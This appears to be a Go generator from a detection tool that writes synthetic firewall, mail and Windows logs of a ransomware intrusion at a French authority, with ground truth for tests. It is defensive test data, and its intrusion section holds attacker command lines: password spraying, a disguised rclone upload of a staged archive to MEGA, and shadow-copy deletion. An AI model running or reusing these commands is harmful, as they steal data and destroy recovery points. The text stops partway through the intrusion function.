// Command gen writes sample evidence with its ground truth.
//
// Without -variant it writes the bundled sample: a ransomware incident at a
// French intercommunal authority ("Communauté d'agglomération", agglo.local):
// FortiGate traffic and VPN logs, Postfix mail logs and Windows Security and
// System events (wevtutil XML) for three nights, plus one intrusion with
// staging and exfiltration, and the same background without the intrusion.
// It is deterministic: the same run writes the same bytes.
//
// With -variant it writes one incident of the scenario generator
// (samples/scenario), drawn from -seed: other authorities, time zones, backup
// schedules, storylines and missing logs, with the truth beside it.
//
//	go run ./samples/gen                                        # samples/incident + samples/control + truth files
//	go run ./samples/gen -variant insider-cloud -seed 7 -out /tmp/insider7   # /tmp/insider7 + /tmp/insider7.truth.json
//	go run ./samples/gen -variant vpn-theft -seed 3 -proxy behind-firewall -out /tmp/vpn3p  # web traffic through a ProxySG
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"log"
	"math/rand/v2"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"time"

	"github.com/exfiltrace/exfiltrace/samples/scenario"
)

func variantNames() string {
	var names []string
	for _, v := range scenario.Variants {
		names = append(names, string(v))
	}
	return strings.Join(names, ", ")
}

// Network of the sample authority.
const (
	fwName      = "FGT-AGGLO-01"
	fwSerial    = "FG100FTK20012345"
	fs01IP      = "10.10.1.20"
	fs01        = "FS01.agglo.local"
	backupIP    = "10.10.1.30"
	mailIP      = "10.10.1.25"
	offsiteIP   = "51.91.120.15"
	offsiteHost = "backup.offsite-provider.fr"
	// Intrusion.
	attackerIP  = "185.220.101.47"
	vpnTunnelIP = "10.212.134.200"
	exfilIP     = "31.216.145.5"
	exfilHost   = "gfs270n102.userstorage.mega.co.nz"
	account     = "j.martin"
	domain      = "AGGLO"
	mailDomain  = "agglo-exemple.fr"
	freemailTo  = "jmartin.perso@gmail.com"
	gmailMX     = "gmail-smtp-in.l.google.com"
	gmailMXIP   = "142.250.27.27"
)

var paris = time.FixedZone("+0100", 3600) // CET in March, before the summer change

// line is one log line with its time, so streams can be merged in order.
type line struct {
	t    time.Time
	text string
}

type output struct {
	fortigate []line
	mail      []line
	security  []line
	system    []line
}

// Truth is the ground truth a test asserts against.
type Truth struct {
	Intrusion       bool             `json:"intrusion"`
	Account         string           `json:"account"`
	AttackerIP      string           `json:"attacker_ip"`
	VPNTunnelIP     string           `json:"vpn_tunnel_ip"`
	SourceHost      string           `json:"source_host"`
	SourceIP        string           `json:"source_ip"`
	Exfil           []ExfilChannel   `json:"exfiltration"`
	Backup          BackupTruth      `json:"nightly_backup"`
	Staging         string           `json:"staging_command"`
	Tool            string           `json:"exfil_tool_command"`
	LogCleared      string           `json:"log_cleared_at"`
	FilesAccessed   int              `json:"files_accessed"`
	LinesPerFile    map[string]int64 `json:"lines_per_file"`
	FirewallWindow  [2]string        `json:"firewall_window"`
	IntrusionWindow [2]string        `json:"intrusion_window"`
}

// ExfilChannel is one way data left, with its exact byte count.
type ExfilChannel struct {
	Channel     string `json:"channel"`
	Destination string `json:"destination"`
	Domain      string `json:"domain,omitempty"`
	Bytes       int64  `json:"bytes"`
	Sessions    int    `json:"sessions"`
	First       string `json:"first"`
	Last        string `json:"last"`
}

// BackupTruth is the legitimate nightly backup that must not be flagged.
type BackupTruth struct {
	Source      string `json:"source"`
	Destination string `json:"destination"`
	BytesTotal  int64  `json:"bytes_total"`
	Nights      int    `json:"nights"`
}

func main() {
	out := flag.String("out", "samples", "directory to write into")
	variant := flag.String("variant", "", "write one generated incident of this storyline instead of the bundled sample: "+variantNames())
	seed := flag.Uint64("seed", 1, "seed of the generated incident (with -variant)")
	firewall := flag.String("firewall", "fortigate", "the firewall's log as this vendor writes it (with -variant): "+strings.Join(scenario.Firewalls, ", "))
	proxy := flag.String("proxy", "", "the web traffic through a web proxy (with -variant): "+strings.Join(scenario.ProxyModes, ", "))
	vpn := flag.String("vpn", "", "the remote access logged by a VPN concentrator instead of the FortiGate (with -variant): "+strings.Join(scenario.VPNModes, ", "))
	wfp := flag.Bool("wfp", false, "the file server also logs its outbound connections, as 5156 events (with -variant)")
	flag.Parse()
	if *variant != "" {
		v, err := scenario.ParseVariant(*variant)
		if err != nil {
			log.Fatal(err)
		}
		o := scenario.Draw(v, *seed)
		o.WFP = *wfp
		inc := scenario.Build(o)
		if *proxy != "" {
			if err := inc.AsProxy(*proxy); err != nil {
				log.Fatal(err)
			}
		}
		if *vpn != "" {
			if err := inc.AsVPN(*vpn); err != nil {
				log.Fatal(err)
			}
		}
		if err := inc.AsFirewall(*firewall); err != nil {
			log.Fatal(err)
		}
		if err := inc.Write(*out, ""); err != nil {
			log.Fatal(err)
		}
		fmt.Printf("%s seed %d → %s (expected verdict %s; %s)\n", *variant, *seed, *out, inc.Truth.Verdict, inc.Truth.Notes)
		return
	}
	for _, intrusion := range []bool{true, false} {
		name := "incident"
		if !intrusion {
			name = "control"
		}
		o := &output{}
		truth := &Truth{Intrusion: intrusion, LinesPerFile: map[string]int64{}}
		background(o, truth)
		if intrusion {
			intrude(o, truth)
		}
		if err := write(filepath.Join(*out, name), o, truth); err != nil {
			log.Fatal(err)
		}
		// The case configuration an analyst would write for this authority:
		// the offsite backup is known good; agglo-exemple.fr is our own mail domain.
		conf := "# Case configuration read by exfiltrace (copied into the case at ingest).\n" +
			"placeholders:\n" +
			"  known_good_destinations: [" + offsiteIP + "/32]   # " + offsiteHost + ", nightly backup\n" +
			"  own_mail_domains: [" + mailDomain + "]\n" +
			"  vpn_pools: [10.212.134.0/24]\n" +
			"  # asset list: address=host, for addresses no log ties to a host\n" +
			"  assets: [\"" + fs01IP + "=" + fs01 + "\", \"" + backupIP + "=BACKUP01.agglo.local\", \"" + mailIP + "=mail01\"]\n"
		if err := os.WriteFile(filepath.Join(*out, name, "exfiltrace.yaml"), []byte(conf), 0o644); err != nil {
			log.Fatal(err)
		}
		b, _ := json.MarshalIndent(truth, "", "  ")
		if err := os.WriteFile(filepath.Join(*out, name+".truth.json"), append(b, '\n'), 0o644); err != nil {
			log.Fatal(err)
		}
	}
}

var start = time.Date(2025, 3, 12, 6, 0, 0, 0, time.UTC)

// ---------------------------------------------------------------- FortiGate

var sessionID = 40000000

func fgTraffic(o *output, r *rand.Rand, t time.Time, src string, sport int, dst string, dport int, proto int, service, action, hostname string, sent, rcvd int64, dur int, policy int, app string) {
	sessionID += 1 + r.IntN(7)
	lt := t.In(paris)
	srcintf, dstintf := "port1", "wan1"
	country := "France"
	if strings.HasPrefix(dst, "31.216.") {
		country = "New Zealand"
	}
	if strings.HasPrefix(dst, "142.250.") {
		country = "United States"
	}
	s := fmt.Sprintf(`date=%s time=%s devname="%s" devid="%s" eventtime=%d tz="+0100" logid="0000000013" type="traffic" subtype="forward" level="notice" vd="root" srcip=%s srcport=%d srcintf="%s" srcintfrole="lan" dstip=%s dstport=%d dstintf="%s" dstintfrole="wan" srccountry="Reserved" dstcountry="%s" sessionid=%d proto=%d action="%s" policyid=%d policytype="policy" poluuid="8d1f6a2e-0b1a-51ee-7c44-5b2f0c3e1a%02d" policyname="LAN-vers-Internet" service="%s" trandisp="snat" transip=203.0.113.10 transport=%d`,
		lt.Format("2006-01-02"), lt.Format("15:04:05"), fwName, fwSerial, t.UnixNano(), src, sport, srcintf, dst, dport, dstintf, country, sessionID, proto, action, policy, policy, service, 20000+r.IntN(40000))
	if hostname != "" {
		s += fmt.Sprintf(` hostname="%s"`, hostname)
	}
	if app != "" {
		s += fmt.Sprintf(` appcat="unscanned" app="%s"`, app)
	}
	s += fmt.Sprintf(` duration=%d sentbyte=%d rcvdbyte=%d sentpkt=%d rcvdpkt=%d`, dur, sent, rcvd, sent/1400+1, rcvd/1400+1)
	o.fortigate = append(o.fortigate, line{t, "<189>" + s})
}

func fgVPN(o *output, t time.Time, action, user, remip, tunnelip, status, reason, msg string) {
	lt := t.In(paris)
	s := fmt.Sprintf(`date=%s time=%s devname="%s" devid="%s" eventtime=%d tz="+0100" logid="%s" type="event" subtype="vpn" level="%s" vd="root" logdesc="%s" action="%s" tunneltype="ssl-tunnel" remip=%s user="%s" group="VPN-Agents" dst_host="N/A" reason="%s" msg="%s"`,
		lt.Format("2006-01-02"), lt.Format("15:04:05"), fwName, fwSerial, t.UnixNano(), vpnLogID(action), vpnLevel(status), vpnDesc(action), action, remip, user, reason, msg)
	if tunnelip != "" {
		s += fmt.Sprintf(` tunnelip=%s`, tunnelip)
	}
	if status != "" {
		s += fmt.Sprintf(` status="%s"`, status)
	}
	o.fortigate = append(o.fortigate, line{t, "<189>" + s})
}

func vpnLogID(a string) string {
	switch a {
	case "ssl-login-fail":
		return "0101039426"
	case "tunnel-up":
		return "0101039947"
	}
	return "0101039948"
}
func vpnLevel(status string) string {
	if status == "failure" {
		return "alert"
	}
	return "information"
}
func vpnDesc(a string) string {
	switch a {
	case "ssl-login-fail":
		return "SSL VPN login fail"
	case "tunnel-up":
		return "SSL VPN tunnel up"
	}
	return "SSL VPN tunnel down"
}

// ---------------------------------------------------------------- Postfix

var queueN = 0x3A1F0

func pfMessage(o *output, r *rand.Rand, t time.Time, clientHost, clientIP, sasl, from string, to []string, size int64, relayHost, relayIP string) {
	queueN += 1 + r.IntN(97)
	qid := fmt.Sprintf("%09X", queueN*4099)
	pid := 1000 + r.IntN(30000)
	ts := func(d time.Duration) time.Time { return t.Add(d) }
	add := func(d time.Duration, prog string, p int, msg string) {
		tt := ts(d)
		o.mail = append(o.mail, line{tt, fmt.Sprintf("%s mail01 postfix/%s[%d]: %s", tt.In(paris).Format("2006-01-02T15:04:05.000000-07:00"), prog, p, msg)})
	}
	add(0, "smtpd", pid, fmt.Sprintf("connect from %s[%s]", clientHost, clientIP))
	client := fmt.Sprintf("%s: client=%s[%s]", qid, clientHost, clientIP)
	if sasl != "" {
		client += ", sasl_method=LOGIN, sasl_username=" + sasl
	}
	add(120*time.Millisecond, "smtpd", pid, client)
	add(180*time.Millisecond, "cleanup", pid+3, fmt.Sprintf("%s: message-id=<%d.%d@%s>", qid, t.Unix(), queueN, strings.SplitN(from, "@", 2)[1]))
	xfer := time.Duration(size/2_000_000+1) * 100 * time.Millisecond
	add(200*time.Millisecond+xfer, "qmgr", 811, fmt.Sprintf("%s: from=<%s>, size=%d, nrcpt=%d (queue active)", qid, from, size, len(to)))
	add(250*time.Millisecond+xfer, "smtpd", pid, fmt.Sprintf("disconnect from %s[%s] ehlo=2 starttls=1 auth=%d mail=1 rcpt=%d data=1 quit=1 commands=%d", clientHost, clientIP, boolInt(sasl != ""), len(to), 6+len(to)+boolInt(sasl != "")))
	for i, rc := range to {
		d := 900*time.Millisecond + xfer + time.Duration(i)*40*time.Millisecond
		rh, ri, port, prog := relayHost, relayIP, 25, "smtp"
		if strings.HasSuffix(rc, "@"+mailDomain) {
			rh, ri, port, prog = "exch01.agglo.local", "10.10.1.26", 25, "smtp"
		}
		add(d, prog, pid+7, fmt.Sprintf("%s: to=<%s>, relay=%s[%s]:%d, delay=%.1f, delays=0.12/0.01/0.2/%.1f, dsn=2.0.0, status=sent (250 2.0.0 OK  %d %s)", qid, rc, rh, ri, port, d.Seconds(), d.Seconds()-0.33, t.Unix(), strings.ToLower(qid)))
	}
	add(time.Second+xfer+time.Duration(len(to))*40*time.Millisecond, "qmgr", 811, fmt.Sprintf("%s: removed", qid))
}

func boolInt(b bool) int {
	if b {
		return 1
	}
	return 0
}

// ---------------------------------------------------------------- Windows

var recordSec, recordSys = 881200, 52310

func winEvent(t time.Time, channel string, provider, guid string, id, task int, keywords string, pid int, data [][2]string, userData string) string {
	var sb strings.Builder
	var rec int
	if channel == "Security" {
		recordSec++
		rec = recordSec
	} else {
		recordSys++
		rec = recordSys
	}
	prov := fmt.Sprintf("<Provider Name='%s'", provider)
	if guid != "" {
		prov += fmt.Sprintf(" Guid='%s'", guid)
	}
	if provider == "Service Control Manager" {
		prov += " EventSourceName='Service Control Manager'"
	}
	prov += "/>"
	fmt.Fprintf(&sb, "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>%s<EventID>%d</EventID><Version>%d</Version><Level>%d</Level><Task>%d</Task><Opcode>0</Opcode><Keywords>%s</Keywords><TimeCreated SystemTime='%s'/><EventRecordID>%d</EventRecordID><Correlation/><Execution ProcessID='%d' ThreadID='%d'/><Channel>%s</Channel><Computer>%s</Computer><Security/></System>",
		prov, id, version(id), level(id), task, keywords, t.UTC().Format("2006-01-02T15:04:05.0000000Z"), rec, pid, pid+64, channel, fs01)
	if userData != "" {
		sb.WriteString(userData)
	} else {
		sb.WriteString("<EventData>")
		for _, d := range data {
			fmt.Fprintf(&sb, "<Data Name='%s'>%s</Data>", d[0], xmlEscape(d[1]))
		}
		sb.WriteString("</EventData>")
	}
	sb.WriteString("</Event>")
	return sb.String()
}

func version(id int) int {
	switch id {
	case 4624:
		return 2
	case 4688:
		return 2
	}
	return 0
}

func level(id int) int {
	if id == 7045 || id == 104 {
		return 4
	}
	return 0
}

func xmlEscape(s string) string {
	r := strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;", "'", "&apos;", "\"", "&quot;")
	return r.Replace(s)
}

const secGUID = "{54849625-5478-4994-a5ba-3e3b0328c30d}"

func logon(o *output, t time.Time, user, dom, ip string, logonType int, logonID string, workstation string) {
	o.security = append(o.security, line{t, winEvent(t, "Security", "Microsoft-Windows-Security-Auditing", secGUID, 4624, 12544, "0x8020000000000000", 712, [][2]string{
		{"SubjectUserSid", "S-1-0-0"}, {"SubjectUserName", "-"}, {"SubjectDomainName", "-"}, {"SubjectLogonId", "0x0"},
		{"TargetUserSid", "S-1-5-21-3623811015-3361044348-30300820-" + userRID(user)}, {"TargetUserName", user}, {"TargetDomainName", dom},
		{"TargetLogonId", logonID}, {"LogonType", fmt.Sprint(logonType)}, {"LogonProcessName", "NtLmSsp "}, {"AuthenticationPackageName", "NTLM"},
		{"WorkstationName", workstation}, {"LogonGuid", "{00000000-0000-0000-0000-000000000000}"}, {"TransmittedServices", "-"},
		{"LmPackageName", "NTLM V2"}, {"KeyLength", "128"}, {"ProcessId", "0x0"}, {"ProcessName", "-"}, {"IpAddress", ip}, {"IpPort", "0"},
		{"ImpersonationLevel", "%%1833"}, {"RestrictedAdminMode", "-"}, {"TargetOutboundUserName", "-"}, {"TargetOutboundDomainName", "-"},
		{"VirtualAccount", "%%1843"}, {"TargetLinkedLogonId", "0x0"}, {"ElevatedToken", "%%1842"},
	}, "")})
}

func userRID(u string) string {
	h := 0
	for _, c := range u {
		h = h*31 + int(c)
	}
	if h < 0 {
		h = -h
	}
	return fmt.Sprint(1100 + h%900)
}

func process(o *output, t time.Time, user, logonID, exe, cmd, parent string, pid int) {
	o.security = append(o.security, line{t, winEvent(t, "Security", "Microsoft-Windows-Security-Auditing", secGUID, 4688, 13312, "0x8020000000000000", 4, [][2]string{
		{"SubjectUserSid", "S-1-5-21-3623811015-3361044348-30300820-" + userRID(user)}, {"SubjectUserName", user}, {"SubjectDomainName", domain},
		{"SubjectLogonId", logonID}, {"NewProcessId", fmt.Sprintf("0x%x", pid)}, {"NewProcessName", exe}, {"TokenElevationType", "%%1936"},
		{"ProcessId", fmt.Sprintf("0x%x", pid-200)}, {"CommandLine", cmd}, {"TargetUserSid", "S-1-0-0"}, {"TargetUserName", "-"},
		{"TargetDomainName", "-"}, {"TargetLogonId", "0x0"}, {"ParentProcessName", parent}, {"MandatoryLabel", "S-1-16-12288"},
	}, "")})
}

func objectAccess(o *output, t time.Time, user, logonID, path, proc string) {
	o.security = append(o.security, line{t, winEvent(t, "Security", "Microsoft-Windows-Security-Auditing", secGUID, 4663, 12800, "0x8020000000000000", 4, [][2]string{
		{"SubjectUserSid", "S-1-5-21-3623811015-3361044348-30300820-" + userRID(user)}, {"SubjectUserName", user}, {"SubjectDomainName", domain},
		{"SubjectLogonId", logonID}, {"ObjectServer", "Security"}, {"ObjectType", "File"}, {"ObjectName", path},
		{"HandleId", "0x1f4"}, {"AccessList", "%%4416"}, {"AccessMask", "0x1"}, {"ProcessId", "0x1a2c"}, {"ProcessName", proc},
		{"ResourceAttributes", "S:AI"},
	}, "")})
}

func shareAccess(o *output, t time.Time, user, ip, share, local, rel string) {
	o.security = append(o.security, line{t, winEvent(t, "Security", "Microsoft-Windows-Security-Auditing", secGUID, 5145, 12811, "0x8020000000000000", 4, [][2]string{
		{"SubjectUserSid", "S-1-5-21-3623811015-3361044348-30300820-" + userRID(user)}, {"SubjectUserName", user}, {"SubjectDomainName", domain},
		{"SubjectLogonId", "0x4a1b2c"}, {"ObjectType", "File"}, {"IpAddress", ip}, {"IpPort", "49722"},
		{"ShareName", `\\*\` + share}, {"ShareLocalPath", `\??\` + local}, {"RelativeTargetName", rel},
		{"AccessMask", "0x120089"}, {"AccessList", "%%1538 %%1541 %%4416 %%4419 %%4423"}, {"AccessReason", "-"},
	}, "")})
}

// ---------------------------------------------------------------- background

var staff = []string{"a.durand", "c.bernard", "m.petit", "s.robert", "l.richard", "n.moreau", "p.simon", "j.martin", "e.laurent", "v.michel"}

var sites = []struct{ ip, host string }{
	{"160.92.168.33", "www.service-public.fr"}, {"185.24.184.10", "www.impots.gouv.fr"}, {"193.17.18.20", "www.legifrance.gouv.fr"},
	{"104.18.32.47", "www.lemonde.fr"}, {"151.101.122.217", "www.ouest-france.fr"}, {"185.86.137.25", "www.marches-publics.gouv.fr"},
	{"52.97.146.162", "outlook.office365.com"}, {"52.113.194.132", "teams.microsoft.com"}, {"20.190.151.70", "login.microsoftonline.com"},
	{"142.250.179.110", "www.google.com"}, {"13.107.42.14", "www.bing.com"}, {"91.68.245.12", "www.caf.fr"},
	{"194.2.41.18", "www.ameli.fr"}, {"212.95.67.120", "chorus-pro.gouv.fr"}, {"80.247.225.27", "www.collectivites-locales.gouv.fr"},
	{"13.32.145.56", "static.data.gouv.fr"}, {"151.101.1.140", "www.reddit.com"}, {"23.58.207.11", "www.microsoft.com"},
	{"2.21.74.103", "ctldl.windowsupdate.com"}, {"40.126.32.134", "settings-win.data.microsoft.com"},
}

var partners = []string{"mairie@ville-voisine.fr", "contact@sdis-exemple.fr", "compta@tresor-public.fr", "devis@btp-atlantique.fr", "urbanisme@ddtm-exemple.gouv.fr", "secretariat@prefecture-exemple.gouv.fr"}

func background(o *output, truth *Truth) {
	r := rand.New(rand.NewPCG(20250312, 1))
	var backupTotal int64
	end := start.Add(72 * time.Hour)
	for day := 0; day < 3; day++ {
		d0 := time.Date(2025, 3, 12+day, 0, 0, 0, 0, time.UTC)
		// Working-hours browsing from 40 workstations, 07:00–17:30 UTC.
		for i := 0; i < 1800; i++ {
			t := d0.Add(7*time.Hour + time.Duration(r.Int64N(int64(10*time.Hour+30*time.Minute))))
			ws := fmt.Sprintf("10.10.20.%d", 11+r.IntN(40))
			s := sites[r.IntN(len(sites))]
			fgTraffic(o, r, t, ws, 49152+r.IntN(16000), s.ip, 443, 6, "HTTPS", "close", s.host, int64(800+r.IntN(60000)), int64(4000+r.IntN(3_000_000)), 1+r.IntN(120), 12, "")
		}
		// DNS from the internal resolver.
		for i := 0; i < 600; i++ {
			t := d0.Add(time.Duration(r.Int64N(int64(24 * time.Hour))))
			fgTraffic(o, r, t, "10.10.1.10", 50000+r.IntN(15000), []string{"9.9.9.9", "149.112.112.112"}[r.IntN(2)], 53, 17, "DNS", "accept", "", int64(60+r.IntN(40)), int64(80+r.IntN(300)), 0, 4, "")
		}
		// Inbound noise dropped at the edge.
		for i := 0; i < 300; i++ {
			t := d0.Add(time.Duration(r.Int64N(int64(24 * time.Hour))))
			src := fmt.Sprintf("%d.%d.%d.%d", 45+r.IntN(150), r.IntN(255), r.IntN(255), 1+r.IntN(253))
			lt := t.In(paris)
			sessionID += 3
			o.fortigate = append(o.fortigate, line{t, fmt.Sprintf(`<189>date=%s time=%s devname="%s" devid="%s" eventtime=%d tz="+0100" logid="0000000011" type="traffic" subtype="local" level="notice" vd="root" srcip=%s srcport=%d srcintf="wan1" srcintfrole="wan" dstip=203.0.113.10 dstport=%d dstintf="root" dstintfrole="undefined" sessionid=%d proto=6 action="deny" policyid=0 policytype="local-in-policy" service="tcp/%d" dstcountry="France" srccountry="Reserved" trandisp="noop" duration=0 sentbyte=0 rcvdbyte=0 sentpkt=0 crscore=5 craction=262144 crlevel="low"`,
				lt.Format("2006-01-02"), lt.Format("15:04:05"), fwName, fwSerial, t.UnixNano(), src, 1024+r.IntN(60000), []int{22, 23, 445, 3389, 8080, 10443}[r.IntN(6)], sessionID, 1000+r.IntN(9000))})
		}
		// Legitimate VPN use by staff from home ISPs.
		for _, u := range []string{"a.durand", "j.martin", "p.simon"} {
			t := d0.Add(7*time.Hour + time.Duration(r.IntN(90))*time.Minute)
			home := fmt.Sprintf("90.%d.%d.%d", 1+r.IntN(120), r.IntN(255), 1+r.IntN(250))
			tip := fmt.Sprintf("10.212.134.%d", 10+r.IntN(40))
			fgVPN(o, t, "tunnel-up", u, home, tip, "success", "login successfully", "SSL tunnel established")
			fgVPN(o, t.Add(time.Duration(3+r.IntN(5))*time.Hour), "tunnel-down", u, home, tip, "success", "N/A", "SSL tunnel shutdown")
		}
		// Nightly backup, 01:00 UTC: six parallel streams to the offsite provider.
		b0 := d0.Add(25 * time.Hour)
		for s := 0; s < 6; s++ {
			sent := int64(6_500_000_000 + r.Int64N(900_000_000))
			backupTotal += sent
			dur := 5400 + r.IntN(1800)
			fgTraffic(o, r, b0.Add(time.Duration(dur)*time.Second), backupIP, 51000+s, offsiteIP, 443, 6, "HTTPS", "close", offsiteHost, sent, sent/180, dur, 21, "")
		}
		// Windows: staff logons to the file server over SMB, and share access.
		for i := 0; i < 160; i++ {
			t := d0.Add(7*time.Hour + time.Duration(r.Int64N(int64(10*time.Hour))))
			u := staff[r.IntN(len(staff))]
			ws := 11 + r.IntN(40)
			logon(o, t, u, domain, fmt.Sprintf("10.10.20.%d", ws), 3, fmt.Sprintf("0x%x", 0x300000+r.IntN(0xfffff)), fmt.Sprintf("PC-AGGLO-%03d", ws))
			share, local := "Commun", `D:\Partages\Commun`
			if r.IntN(5) == 0 {
				share, local = "Urbanisme", `D:\Partages\Urbanisme`
			}
			shareAccess(o, t.Add(2*time.Second), u, fmt.Sprintf("10.10.20.%d", ws), share, local, fmt.Sprintf(`Dossiers\%d\note-%04d.docx`, 2025, r.IntN(4000)))
		}
		// Backup agent process on the file server at 00:55 UTC.
		process(o, d0.Add(24*time.Hour+55*time.Minute), "svc-backup", "0x3e7", `C:\Program Files\Veeam\Endpoint Backup\Veeam.EndPoint.Manager.exe`, `"C:\Program Files\Veeam\Endpoint Backup\Veeam.EndPoint.Manager.exe" /backup /job:nightly`, `C:\Windows\System32\services.exe`, 0x2210+day)
		// System log: the backup service starting and stopping each night.
		for _, h := range []time.Duration{24*time.Hour + 54*time.Minute, 27*time.Hour + 40*time.Minute} {
			t := d0.Add(h)
			state := "running"
			if h > 25*time.Hour {
				state = "stopped"
			}
			o.system = append(o.system, line{t, winEvent(t, "System", "Service Control Manager", "{555908d1-a6d7-4695-8e1e-26931d2012f4}", 7036, 0, "0x8080000000000000", 668, [][2]string{
				{"param1", "Veeam Agent for Microsoft Windows"}, {"param2", state}, {"Binary", "5600650065006100"},
			}, "")})
		}
		// Mail: staff writing to partners, partners writing in.
		for i := 0; i < 45; i++ {
			t := d0.Add(7*time.Hour + time.Duration(r.Int64N(int64(10*time.Hour))))
			u := staff[r.IntN(len(staff))]
			if r.IntN(2) == 0 {
				to := []string{partners[r.IntN(len(partners))]}
				if r.IntN(4) == 0 {
					to = append(to, staff[r.IntN(len(staff))]+"@"+mailDomain)
				}
				ws := 11 + r.IntN(40)
				pfMessage(o, r, t, fmt.Sprintf("pc-agglo-%03d.agglo.local", ws), fmt.Sprintf("10.10.20.%d", ws), u, u+"@"+mailDomain, to, int64(3000+r.IntN(900_000)), "mx.partenaire-exemple.fr", "93.184.216.34")
			} else {
				p := partners[r.IntN(len(partners))]
				pfMessage(o, r, t, "mail.partenaire-exemple.fr", "93.184.216.40", "", p, []string{u + "@" + mailDomain}, int64(2000+r.IntN(400_000)), "", "")
			}
		}
	}
	_ = end
	truth.Backup = BackupTruth{Source: backupIP, Destination: offsiteIP, BytesTotal: backupTotal, Nights: 3}
	truth.FirewallWindow = [2]string{start.Format(time.RFC3339), start.Add(72 * time.Hour).Format(time.RFC3339)}
}

// ---------------------------------------------------------------- intrusion

func intrude(o *output, truth *Truth) {
	r := rand.New(rand.NewPCG(20250314, 2))
	night := time.Date(2025, 3, 14, 21, 41, 0, 0, time.UTC)
	truth.Account = account
	truth.AttackerIP = attackerIP
	truth.VPNTunnelIP = vpnTunnelIP
	truth.SourceHost = fs01
	truth.SourceIP = fs01IP
	// VPN password spraying, then success for j.martin.
	t := night
	users := []string{"admin", "administrateur", "a.durand", "j.martin", "compta", "j.martin", "scanner", "j.martin"}
	for i := 0; i < 46; i++ {
		t = t.Add(time.Duration(8+r.IntN(20)) * time.Second)
		u := users[r.IntN(len(users))]
		fgVPN(o, t, "ssl-login-fail", u, attackerIP, "", "failure", "sslvpn_login_permission_denied", "SSL user failed to logged in")
	}
	vpnUp := t.Add(41 * time.Second)
	fgVPN(o, vpnUp, "tunnel-up", account, attackerIP, vpnTunnelIP, "success", "login successfully", "SSL tunnel established")
	// RDP to the file server from the tunnel address.
	rdp := vpnUp.Add(4*time.Minute + 12*time.Second)
	fgTraffic(o, r, rdp.Add(3*time.Hour), vpnTunnelIP, 51877, fs01IP, 3389, 6, "RDP", "close", "", 48_211_004, 912_554_371, 3*3600, 31, "")
	lid := "0x8c41f2"
	logon(o, rdp, account, domain, vpnTunnelIP, 10, lid, "PC-REMOTE")
	intrusionStart := night
	// Staging: 7-Zip with a password over the HR and civil-registry shares.
	stg := rdp.Add(9 * time.Minute)
	staging := `"C:\Program Files\7-Zip\7z.exe" a -t7z -mx1 -mhe=on -pAgglo2025! C:\PerfLogs\sauvegarde.7z D:\Partages\RH D:\Partages\EtatCivil`
	truth.Staging = staging
	process(o, stg, account, lid, `C:\Program Files\7-Zip\7z.exe`, staging, `C:\Windows\System32\cmd.exe`, 0x1a2c)
	dirs := []string{`D:\Partages\RH\Paie\2024`, `D:\Partages\RH\Dossiers-agents`, `D:\Partages\EtatCivil\Naissances`, `D:\Partages\EtatCivil\Mariages`}
	n := 0
	for i := 0; i < 240; i++ {
		d := dirs[i%len(dirs)]
		objectAccess(o, stg.Add(time.Duration(2+i*3)*time.Second), account, lid, fmt.Sprintf(`%s\%s-%04d.pdf`, d, strings.ToLower(filepath.Base(strings.ReplaceAll(d, `\`, "/"))), 1000+i), `C:\Program Files\7-Zip\7z.exe`)
		n++
	}
	truth.FilesAccessed = n
	// Exfiltration tool: rclone renamed, uploading to MEGA.
	tool := stg.Add(24 * time.Minute)
	toolCmd := `C:\PerfLogs\svchost64.exe copy C:\PerfLogs\sauvegarde.7z mega:sauvegarde --transfers 8 --multi-thread-streams 4 -q --ignore-existing --auto-confirm --no-check-certificate`
	truth.Tool = toolCmd
	process(o, tool, account, lid, `C:\PerfLogs\svchost64.exe`, toolCmd, `C:\Windows\System32\cmd.exe`, 0x2b10)
	var total int64
	first, last := time.Time{}, time.Time{}
	sessions := 24
	for s := 0; s < sessions; s++ {
		begin := tool.Add(time.Duration(5+s*260) * time.Second)
		dur := 900 + r.IntN(2400)
		sent := int64(150_000_000 + r.Int64N(120_000_000))
		total += sent
		end := begin.Add(time.Duration(dur) * time.Second)
		if first.IsZero() || begin.Before(first) {
			first = begin
		}
		if end.After(last) {
			last = end
		}
		fgTraffic(o, r, end, fs01IP, 60100+s, exfilIP, 443, 6, "HTTPS", "close", exfilHost, sent, sent/90, dur, 12, "")
	}
	truth.Exfil = append(truth.Exfil, ExfilChannel{Channel: "cloud", Destination: exfilIP, Domain: exfilHost, Bytes: total, Sessions: sessions,
		First: first.Format(time.RFC3339), Last: last.Format(time.RFC3339)})
	// Mail to a personal free-mail address, through the relay, authenticated as j.martin from the VPN address.
	var mailTotal int64
	var mf, ml time.Time
	for i, size := range []int64{18_874_368, 19_922_944, 15_728_640} {
		mt := tool.Add(time.Duration(11+i*7) * time.Minute)
		pfMessage(o, r, mt, "unknown", vpnTunnelIP, account, account+"@"+mailDomain, []string{freemailTo}, size, gmailMX, gmailMXIP)
		mailTotal += size
		// The message event is dated by its first queue line (client=, 120 ms after connect).
		if mf.IsZero() {
			mf = mt.Add(120 * time.Millisecond)
		}
		ml = mt.Add(120 * time.Millisecond)
		fgTraffic(o, r, mt.Add(30*time.Second), mailIP, 41000+i, gmailMXIP, 25, 6, "SMTP", "close", gmailMX, size+size/30, 4200, 25, 7, "")
	}
	truth.Exfil = append(truth.Exfil, ExfilChannel{Channel: "email", Destination: freemailTo, Domain: "gmail.com", Bytes: mailTotal, Sessions: 3,
		First: mf.Format(time.RFC3339Nano), Last: ml.Format(time.RFC3339Nano)})
	// Cover-up: shadow copies deleted, a service installed, the Security log cleared.
	cover := last.Add(6 * time.Minute)
	process(o, cover, account, lid, `C:\Windows\System32\vssadmin.exe`, `vssadmin.exe delete shadows /all /quiet`, `C:\Windows\System32\cmd.exe`, 0x2e00)
	o.system = append(o.system, line{cover.Add(40 * time.Second), winEvent(cover.Add(40*time.Second), "System", "Service Control Manager", "{555908d1-a6d7-4695-8e1e-26931d2012f4}", 7045, 0, "0x8080000000000000", 668, [][2]string{
		{"ServiceName", "PSEXESVC"}, {"ImagePath", `%SystemRoot%\PSEXESVC.exe`}, {"ServiceType", "user mode service"}, {"StartType", "demand start"}, {"AccountName", "LocalSystem"},
	}, "")})
	clr := cover.Add(3 * time.Minute)
